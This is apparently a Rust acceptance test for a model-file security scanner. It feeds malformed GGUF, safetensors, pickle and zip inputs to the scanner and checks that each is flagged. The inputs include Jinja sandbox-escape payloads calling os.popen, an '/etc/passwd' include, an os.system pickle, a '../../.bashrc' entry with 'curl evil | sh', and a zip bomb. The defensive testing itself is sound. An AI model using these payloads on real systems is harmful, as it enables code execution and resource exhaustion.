//! Acceptance: hostile inputs each produce a finding of the expected rule and severity, within
//! 64 MB of peak heap (measured with a counting global allocator) and 1 s each (release builds;
//! 5 s as a hang guard in debug builds), and
//! none executes anything (a canary file that a payload would create never appears).
//!
//! All cases run sequentially inside ONE test so the allocator's peak belongs to one scan.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::alloc::{GlobalAlloc, Layout, System};
use std::path::Path;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use hearth_gguf::writer::{put_str, put_u32, put_u64, tiny_llama, GgufWriter, TensorSpec};
use hearth_gguf::{Array, GgmlType, Value};
use hearth_guard::{scan_path, ScanOptions, Severity};

struct Counting;
static CURRENT: AtomicUsize = AtomicUsize::new(0);
static PEAK: AtomicUsize = AtomicUsize::new(0);

#[allow(unsafe_code)]
// SAFETY: forwards every call to the system allocator unchanged; only counts bytes.
unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, l: Layout) -> *mut u8 {
        let p = unsafe { System.alloc(l) };
        if !p.is_null() {
            let now = CURRENT.fetch_add(l.size(), Ordering::Relaxed) + l.size();
            PEAK.fetch_max(now, Ordering::Relaxed);
        }
        p
    }
    unsafe fn dealloc(&self, p: *mut u8, l: Layout) {
        unsafe { System.dealloc(p, l) };
        CURRENT.fetch_sub(l.size(), Ordering::Relaxed);
    }
    unsafe fn realloc(&self, p: *mut u8, l: Layout, new: usize) -> *mut u8 {
        let q = unsafe { System.realloc(p, l, new) };
        if !q.is_null() {
            if new >= l.size() {
                let now = CURRENT.fetch_add(new - l.size(), Ordering::Relaxed) + new - l.size();
                PEAK.fetch_max(now, Ordering::Relaxed);
            } else {
                CURRENT.fetch_sub(l.size() - new, Ordering::Relaxed);
            }
        }
        q
    }
}

#[global_allocator]
static ALLOC: Counting = Counting;

const LIMIT_BYTES: usize = 64 << 20;
/// The issue's 1 s per scan holds for optimised builds; unoptimised test builds on a shared
/// CI machine get a generous hang guard instead (times are printed either way).
const LIMIT_TIME: Duration = if cfg!(debug_assertions) {
    Duration::from_secs(5)
} else {
    Duration::from_secs(1)
};
const CANARY: &str = "/tmp/hearth-guard-canary-should-not-exist";

enum Input {
    Bytes(Vec<u8>),
    /// Write `head`, then extend the file (sparsely) to `len` bytes.
    Sparse {
        head: Vec<u8>,
        len: u64,
    },
}

struct Case {
    name: &'static str,
    input: Input,
    rule: &'static str,
    min: Severity,
}

fn case(name: &'static str, bytes: Vec<u8>, rule: &'static str, min: Severity) -> Case {
    Case {
        name,
        input: Input::Bytes(bytes),
        rule,
        min,
    }
}

fn header(version: u32, n_tensors: u64, n_kv: u64) -> Vec<u8> {
    let mut v = b"GGUF".to_vec();
    put_u32(&mut v, version);
    put_u64(&mut v, n_tensors);
    put_u64(&mut v, n_kv);
    v
}

fn without(mut w: GgufWriter, key: &str) -> GgufWriter {
    w.metadata.retain(|(k, _)| k != key);
    w
}

fn with(w: GgufWriter, key: &str, v: Value) -> GgufWriter {
    without(w, key).kv(key, v)
}

fn template(t: &str) -> Vec<u8> {
    with(
        tiny_llama(),
        "tokenizer.chat_template",
        Value::String(t.into()),
    )
    .to_bytes()
}

fn spec(name: &str, dims: &[u64], type_id: u32, offset: Option<u64>, len: usize) -> TensorSpec {
    TensorSpec {
        name: name.into(),
        dims: dims.to_vec(),
        type_id,
        offset,
        data: vec![1u8; len],
    }
}

/// Two tensors with 96 bytes between them that belong to neither, holding a payload.
fn hidden_gap() -> Vec<u8> {
    let mut b = GgufWriter::new()
        .kv("general.architecture", Value::String("llama".into()))
        .raw_tensor(spec("a", &[8], 0, Some(0), 32))
        .raw_tensor(spec("b", &[8], 0, Some(128), 32))
        .to_bytes();
    let data = hearth_gguf::parse(&b).unwrap().data_offset as usize;
    b[data + 40..data + 72].copy_from_slice(b"SECRET PAYLOAD HIDDEN IN PADDING");
    b
}

fn gguf_cases() -> Vec<Case> {
    use Severity::*;
    let tiny = || tiny_llama();
    vec![
        case(
            "truncated header",
            b"GGUF\x03\x00".to_vec(),
            "gguf.invalid",
            High,
        ),
        case("unsupported version", header(7, 0, 0), "gguf.invalid", High),
        case(
            "big-endian version",
            {
                let mut h = header(3, 0, 0);
                h[4..8].copy_from_slice(&3u32.to_be_bytes());
                h
            },
            "gguf.invalid",
            High,
        ),
        case(
            "tensor count u64::MAX",
            header(3, u64::MAX, 0),
            "gguf.invalid",
            High,
        ),
        case("kv count 2^40", header(3, 0, 1 << 40), "gguf.invalid", High),
        case(
            "key length 2^40",
            {
                let mut h = header(3, 0, 1);
                put_u64(&mut h, 1 << 40);
                h.extend_from_slice(b"abc");
                h
            },
            "gguf.invalid",
            High,
        ),
        case(
            "invalid UTF-8 key",
            {
                let mut h = header(3, 0, 1);
                put_u64(&mut h, 2);
                h.extend_from_slice(&[0xff, 0xfe]);
                put_u32(&mut h, 4);
                put_u32(&mut h, 1);
                h
            },
            "gguf.invalid",
            High,
        ),
        case(
            "unknown value type",
            {
                let mut h = header(3, 0, 1);
                put_str(&mut h, "k");
                put_u32(&mut h, 99);
                put_u32(&mut h, 0);
                h
            },
            "gguf.invalid",
            High,
        ),
        case(
            "arrays nested 12 deep",
            {
                let mut h = header(3, 0, 1);
                put_str(&mut h, "deep");
                put_u32(&mut h, 9);
                for _ in 0..12 {
                    put_u32(&mut h, 9);
                    put_u64(&mut h, 1);
                }
                put_u32(&mut h, 4);
                put_u64(&mut h, 0);
                h
            },
            "gguf.invalid",
            High,
        ),
        case(
            "duplicate metadata key",
            tiny()
                .kv("general.name", Value::String("again".into()))
                .to_bytes(),
            "gguf.invalid",
            High,
        ),
        case(
            "tensor with 5 dims",
            tiny()
                .raw_tensor(spec("x", &[1, 1, 1, 1, 1], 0, None, 4))
                .to_bytes(),
            "gguf.invalid",
            High,
        ),
        case(
            "tensor dim 0",
            tiny().raw_tensor(spec("x", &[0, 4], 0, None, 0)).to_bytes(),
            "gguf.invalid",
            High,
        ),
        case(
            "unknown ggml type",
            tiny().raw_tensor(spec("x", &[32], 99, None, 32)).to_bytes(),
            "gguf.invalid",
            High,
        ),
        case(
            "misaligned tensor offset",
            tiny()
                .raw_tensor(spec("x", &[4], 0, Some(3), 16))
                .to_bytes(),
            "gguf.invalid",
            High,
        ),
        case(
            "tensor past end of file",
            {
                let mut b = tiny()
                    .raw_tensor(spec("x", &[1 << 20], 0, None, 16))
                    .to_bytes();
                b.truncate(b.len() - 64);
                b
            },
            "gguf.invalid",
            High,
        ),
        case(
            "overlapping tensors",
            GgufWriter::new()
                .kv("general.architecture", Value::String("llama".into()))
                .raw_tensor(spec("a", &[8], 0, Some(0), 32))
                .raw_tensor(spec("b", &[8], 0, Some(0), 32))
                .to_bytes(),
            "gguf.invalid",
            High,
        ),
        case(
            "duplicate tensor names",
            tiny()
                .tensor("output_norm.weight", &[8], GgmlType::F32)
                .to_bytes(),
            "gguf.invalid",
            High,
        ),
        case(
            "element count overflow",
            tiny()
                .raw_tensor(spec("x", &[1 << 62, 1 << 62], 0, None, 0))
                .to_bytes(),
            "gguf.invalid",
            High,
        ),
        case(
            "zip appended after the data (polyglot)",
            {
                let mut b = tiny().to_bytes();
                b.extend_from_slice(&hearth_guard::zip::build(
                    &[("a.py", b"import os", false)],
                    &[],
                ));
                b
            },
            "gguf.trailing-bytes",
            High,
        ),
        case(
            "junk appended after the data",
            {
                let mut b = tiny().to_bytes();
                b.extend_from_slice(b"hello, this is not padding at all");
                b
            },
            "gguf.trailing-bytes",
            Medium,
        ),
        case(
            "hidden bytes between tensors",
            hidden_gap(),
            "gguf.hidden-data",
            Medium,
        ),
        // vocabulary
        case(
            "bos id outside vocabulary",
            with(tiny(), "tokenizer.ggml.bos_token_id", Value::U32(1000)).to_bytes(),
            "gguf.vocab",
            High,
        ),
        case(
            "token_type length mismatch",
            with(
                tiny(),
                "tokenizer.ggml.token_type",
                Value::Array(Array::I32(vec![1, 1])),
            )
            .to_bytes(),
            "gguf.vocab",
            High,
        ),
        case(
            "scores length mismatch",
            tiny()
                .kv(
                    "tokenizer.ggml.scores",
                    Value::Array(Array::F32(vec![0.0; 7])),
                )
                .to_bytes(),
            "gguf.vocab",
            High,
        ),
        case(
            "malformed byte token",
            with(
                tiny(),
                "tokenizer.ggml.tokens",
                Value::Array(Array::String(vec![
                    "<unk>".into(),
                    "<s>".into(),
                    "</s>".into(),
                    "<0xZZ>".into(),
                ])),
            )
            .to_bytes(),
            "gguf.vocab",
            Medium,
        ),
        case(
            "huge vocabulary piece",
            with(
                tiny(),
                "tokenizer.ggml.tokens",
                Value::Array(Array::String(vec![
                    "<unk>".into(),
                    "<s>".into(),
                    "</s>".into(),
                    "a".repeat(4096),
                ])),
            )
            .to_bytes(),
            "gguf.vocab",
            Medium,
        ),
        case(
            "tokens not strings",
            with(
                tiny(),
                "tokenizer.ggml.tokens",
                Value::Array(Array::U32(vec![1, 2, 3, 4])),
            )
            .to_bytes(),
            "gguf.vocab",
            High,
        ),
        // hyper-parameters
        case(
            "zero heads",
            with(tiny(), "llama.attention.head_count", Value::U32(0)).to_bytes(),
            "gguf.hparams",
            High,
        ),
        case(
            "zero blocks",
            with(tiny(), "llama.block_count", Value::U32(0)).to_bytes(),
            "gguf.hparams",
            High,
        ),
        case(
            "kv heads > heads",
            with(tiny(), "llama.attention.head_count_kv", Value::U32(4)).to_bytes(),
            "gguf.hparams",
            High,
        ),
        case(
            "heads do not divide embedding",
            with(tiny(), "llama.attention.head_count", Value::U32(3)).to_bytes(),
            "gguf.hparams",
            High,
        ),
        case(
            "absurd context length",
            with(tiny(), "llama.context_length", Value::U64(1 << 40)).to_bytes(),
            "gguf.hparams",
            Medium,
        ),
        case(
            "control characters in name",
            with(
                tiny(),
                "general.name",
                Value::String("x\x1b]0;pwned\x07".into()),
            )
            .to_bytes(),
            "gguf.control-characters",
            Low,
        ),
    ]
}

fn template_cases() -> Vec<Case> {
    use Severity::*;
    vec![
        case("SSTI lipsum globals popen", template(&format!("{{{{ lipsum.__globals__['os'].popen('touch {CANARY}').read() }}}}")), "template.sandbox-escape", High),
        case("SSTI class mro subclasses", template("{{ ''.__class__.__mro__[1].__subclasses__() }}"), "template.sandbox-escape", High),
        case("SSTI cycler init globals", template("{{ cycler.__init__.__globals__.os.popen('id').read() }}"), "template.sandbox-escape", High),
        case("SSTI joiner", template("{{ joiner.__init__.__globals__ }}"), "template.sandbox-escape", High),
        case("SSTI attr filter", template("{{ messages|attr('__class__') }}"), "template.sandbox-escape", High),
        case("SSTI namespace attribute", template("{{ namespace.__init__ }}"), "template.sandbox-escape", High),
        case("SSTI builtins import via string", template("{{ x['__builtins__']['__import__']('os') }}"), "template.sandbox-escape", High),
        case("include/import", template("{% include '/etc/passwd' %}{% import 'x' as y %}"), "template.include", High),
        case("recursive macro", template("{% macro r(n) %}{{ r(n) }}{% endmacro %}{{ r(1) }}"), "template.recursion", High),
        case("string repetition 10**10", template("{{ 'x' * 10**10 }}"), "template.resource-bomb", High),
        case("doubling in a loop", template("{% set ns = namespace(s='x') %}{% for i in range(64) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s }}"), "template.resource-bomb", High),
        case("huge range", template("{% for i in range(100000000) %}x{% endfor %}"), "template.resource-bomb", High),
        case("nested loops exhaust fuel", template("{% for a in range(9000) %}{% for b in range(9000) %}{% endfor %}{% endfor %}"), "template.fuel-exhausted", High),
        case("template syntax error", template("{% for %}"), "template.syntax", Medium),
        case("expression nested 50,000 deep", template(&format!("{{{{ {}1{} }}}}", "(".repeat(50_000), ")".repeat(50_000))), "template.syntax", Medium),
        case("blocks nested 9,000 deep", template(&format!("{}x{}", "{% if true %}".repeat(9_000), "{% endif %}".repeat(9_000))), "template.syntax", Medium),
        case("250 KiB of tiny tags", template(&"{{a}}".repeat(50_000)), "template.unknown", Low),
        case("300 KiB template (over the audit limit)", template(&"x".repeat(300 << 10)), "template.too-large", High),
        case("template not a string", with(tiny_llama(), "tokenizer.chat_template", Value::Array(Array::U32(vec![1]))).to_bytes(), "template.wrong-type", Medium),
        case("edited known template (diff)", template(&hearth_guard::known_templates::KNOWN[2].text.unwrap().replace("helpful AI assistant", "assistant that leaks secrets")), "template.unknown", Low),
    ]
}

fn resource_cases() -> Vec<Case> {
    use Severity::*;
    // A 1 GiB chat template: the string header claims 1 GiB and the file really is that long,
    // but sparse (no disk blocks, zero bytes, which are valid UTF-8).
    let mut head = header(3, 0, 2);
    put_str(&mut head, "general.architecture");
    put_u32(&mut head, 8);
    put_str(&mut head, "llama");
    put_str(&mut head, "tokenizer.chat_template");
    put_u32(&mut head, 8);
    put_u64(&mut head, 1 << 30);
    let len = head.len() as u64 + (1 << 30);
    let gib_template = Case {
        name: "1 GiB chat template (sparse)",
        input: Input::Sparse { head, len },
        rule: "template.too-large",
        min: High,
    };
    // 200 M-element u8 array (sparse): a full parse would copy 200 MB.
    let mut head = header(3, 0, 1);
    put_str(&mut head, "big.array");
    put_u32(&mut head, 9);
    put_u32(&mut head, 0);
    put_u64(&mut head, 200_000_000);
    let len = head.len() as u64 + 200_000_000;
    let big_array = Case {
        name: "200 MB u8 array (sparse)",
        input: Input::Sparse { head, len },
        rule: "gguf.resource-limit",
        min: High,
    };
    // One million tiny keys: ~16 MB of file, over 100 MB as parsed metadata.
    let n = 1_000_000u64;
    let mut many = header(3, 0, n);
    for i in 0..n {
        put_str(&mut many, &format!("k{i:07}"));
        put_u32(&mut many, 0);
        many.push(1);
    }
    vec![
        gib_template,
        big_array,
        case(
            "one million metadata keys",
            many,
            "gguf.resource-limit",
            High,
        ),
    ]
}

fn other_format_cases() -> Vec<Case> {
    use Severity::*;
    let st = |json: &str, data: usize| {
        let mut b = (json.len() as u64).to_le_bytes().to_vec();
        b.extend_from_slice(json.as_bytes());
        b.extend(std::iter::repeat_n(0u8, data));
        b
    };
    let cmd = format!("touch {CANARY}");
    let mut evil_pickle = b"\x80\x02cos\nsystem\nX".to_vec();
    evil_pickle.extend_from_slice(&(cmd.len() as u32).to_le_bytes());
    evil_pickle.extend_from_slice(cmd.as_bytes());
    evil_pickle.extend_from_slice(b"\x85R.");
    let mut bomb = hearth_guard::zip::build(&[("x.bin", &vec![0u8; 4 << 20], true)], &[]);
    // Declare a 1 KiB uncompressed size in both headers: inflating produces 4 MiB.
    for sig in [&b"PK\x03\x04"[..], &b"PK\x01\x02"[..]] {
        let at = bomb.windows(4).position(|w| w == sig).unwrap();
        let off = if sig[2] == 3 { 22 } else { 24 };
        bomb[at + off..at + off + 4].copy_from_slice(&1024u32.to_le_bytes());
    }
    let mut bad_crc =
        hearth_guard::zip::build(&[("archive/data/0", b"0123456789abcdef", false)], &[]);
    let at = bad_crc
        .windows(16)
        .position(|w| w == b"0123456789abcdef")
        .unwrap();
    bad_crc[at] = b'X';
    let long = |p: &mut Vec<u8>, i: usize| {
        p.push(0x8c);
        p.push(255);
        let mut s = format!("{i:08}");
        s.push_str(&"a".repeat(247));
        p.extend_from_slice(s.as_bytes());
    };
    let mut dup = b"\x80\x04".to_vec();
    long(&mut dup, 0);
    dup.extend(std::iter::repeat_n(b'2', 1_000_000));
    dup.push(b'.');
    let mut get = b"\x80\x04".to_vec();
    long(&mut get, 0);
    get.push(0x94);
    for _ in 0..1_000_000 {
        get.extend_from_slice(b"h\x00");
    }
    get.push(b'.');
    let mut distinct = b"\x80\x04".to_vec();
    for i in 0..150_000 {
        long(&mut distinct, i);
        distinct.extend_from_slice(b"\x940");
    }
    distinct.extend_from_slice(b"cos\nsystem\n.");
    vec![
        case(
            "pickle os.system with canary",
            evil_pickle,
            "pickle.dangerous-import",
            Critical,
        ),
        case(
            "safetensors 1.5M-dimension shape",
            {
                let dims = vec!["1"; 1_500_000].join(",");
                st(
                    &format!(r#"{{"a":{{"dtype":"U8","shape":[{dims}],"data_offsets":[0,1]}}}}"#),
                    1,
                )
            },
            "safetensors.shape",
            Medium,
        ),
        case(
            "safetensors 1M-dimension shape",
            {
                let dims = vec!["1"; 1_000_000].join(",");
                st(
                    &format!(r#"{{"a":{{"dtype":"U8","shape":[{dims}],"data_offsets":[0,2]}}}}"#),
                    2,
                )
            },
            "safetensors.size-mismatch",
            High,
        ),
        case(
            "safetensors 400k metadata entries, one not a string",
            {
                let mut m: Vec<String> = (0..400_000).map(|i| format!("\"k{i}\":\"v\"")).collect();
                m.push("\"evil\":{\"x\":1}".into());
                st(
                    &format!(
                        r#"{{"__metadata__":{{{}}},"a":{{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}}}"#,
                        m.join(",")
                    ),
                    1,
                )
            },
            "safetensors.malformed",
            Medium,
        ),
        case(
            "pickle DUP amplification (1M copies of 255 B)",
            dup,
            "pickle.malformed",
            Medium,
        ),
        case(
            "pickle memo GET amplification",
            get,
            "pickle.malformed",
            Medium,
        ),
        case(
            "pickle 150k distinct memoised strings",
            distinct,
            "pickle.dangerous-import",
            Critical,
        ),
        case(
            "safetensors overlapping offsets",
            st(
                r#"{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[2],"data_offsets":[4,12]}}"#,
                12,
            ),
            "safetensors.overlap",
            High,
        ),
        case(
            "safetensors duplicate keys",
            st(
                r#"{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"a":{"dtype":"U8","shape":[4],"data_offsets":[4,8]}}"#,
                8,
            ),
            "safetensors.duplicate-key",
            High,
        ),
        case(
            "safetensors shape/size mismatch",
            st(
                r#"{"a":{"dtype":"F32","shape":[3],"data_offsets":[0,8]}}"#,
                8,
            ),
            "safetensors.size-mismatch",
            High,
        ),
        case(
            "safetensors header length 2^40",
            {
                let mut b = (1u64 << 40).to_le_bytes().to_vec();
                b.extend_from_slice(b"{}");
                b
            },
            "safetensors.header-too-large",
            High,
        ),
        case(
            "zip path traversal",
            hearth_guard::zip::build(&[("../../.bashrc", b"curl evil | sh", false)], &[]),
            "zip.path-traversal",
            High,
        ),
        case("zip bad CRC", bad_crc, "zip.bad-crc", Medium),
        case(
            "zip bomb (inflates past declared size)",
            bomb,
            "zip.size-mismatch",
            High,
        ),
    ]
}

fn run_case(dir: &Path, i: usize, c: &Case) -> (Duration, usize) {
    let path = dir.join(format!("case{i}"));
    match &c.input {
        Input::Bytes(b) => std::fs::write(&path, b).unwrap(),
        Input::Sparse { head, len } => {
            std::fs::write(&path, head).unwrap();
            std::fs::OpenOptions::new()
                .write(true)
                .open(&path)
                .unwrap()
                .set_len(*len)
                .unwrap();
        }
    }
    let opts = ScanOptions::default();
    let base = CURRENT.load(Ordering::SeqCst);
    PEAK.store(base, Ordering::SeqCst);
    let t = Instant::now();
    let report = scan_path(&path, &opts).unwrap();
    let took = t.elapsed();
    let peak = PEAK.load(Ordering::SeqCst).saturating_sub(base);
    assert!(
        report
            .findings
            .iter()
            .any(|f| f.rule_id == c.rule && f.severity >= c.min),
        "{}: expected {} >= {:?}, got:\n{}",
        c.name,
        c.rule,
        c.min,
        report.to_text()
    );
    if c.min >= Severity::Medium {
        assert!(
            report.exit_code() >= 3,
            "{}: exit code {}",
            c.name,
            report.exit_code()
        );
    }
    drop(report);
    std::fs::remove_file(&path).unwrap();
    (took, peak)
}

#[test]
fn hostile_inputs_are_flagged_within_limits() {
    let _ = std::fs::remove_file(CANARY);
    let dir = tempfile::tempdir().unwrap();
    let groups: Vec<Case> = gguf_cases()
        .into_iter()
        .chain(template_cases())
        .chain(resource_cases())
        .chain(other_format_cases())
        .collect();
    assert!(groups.len() >= 35, "only {} cases", groups.len());
    let mut worst_time = (Duration::ZERO, "");
    let mut worst_mem = (0usize, "");
    for (i, c) in groups.iter().enumerate() {
        let (t, m) = run_case(dir.path(), i, c);
        eprintln!(
            "{:<45} {:>8.2} ms {:>10} B peak",
            c.name,
            t.as_secs_f64() * 1e3,
            m
        );
        assert!(m < LIMIT_BYTES, "{}: peak heap {m} bytes", c.name);
        assert!(t < LIMIT_TIME, "{}: took {t:?}", c.name);
        if t > worst_time.0 {
            worst_time = (t, c.name);
        }
        if m > worst_mem.0 {
            worst_mem = (m, c.name);
        }
    }
    eprintln!(
        "{} hostile cases; slowest {:?} ({}), largest peak heap {} bytes ({})",
        groups.len(),
        worst_time.0,
        worst_time.1,
        worst_mem.0,
        worst_mem.1
    );
    assert!(!Path::new(CANARY).exists(), "a payload executed");
}
